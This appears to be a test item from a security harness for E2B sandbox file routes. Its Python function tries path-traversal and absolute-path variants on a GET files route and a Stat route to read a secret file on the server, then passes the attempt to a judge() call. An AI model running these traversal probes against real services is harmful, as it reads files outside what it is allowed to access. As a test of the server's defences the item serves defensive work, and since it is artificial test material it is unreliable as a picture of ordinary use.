# aim: read a file of the server's machine
# mechanism: steps upwards and whole paths, of E2B's routes
# server: files
# plain: naive

def attack():
    for path in ('../' * 20 + secret_path.lstrip('/'), secret_path, "/home/user/" + '../' * 20 + secret_path.lstrip('/'), "/home/user/../" + secret_path.lstrip("/"), "/tmp/../" + secret_path.lstrip("/"), "//" + secret_path):
        ask("GET", f"/files?path={quote(path)}", E2b_Sandbox_Id=mine.sandbox)
        ask("POST", "/filesystem.Filesystem/Stat", {"path": path}, E2b_Sandbox_Id=mine.sandbox)


judge(attack)
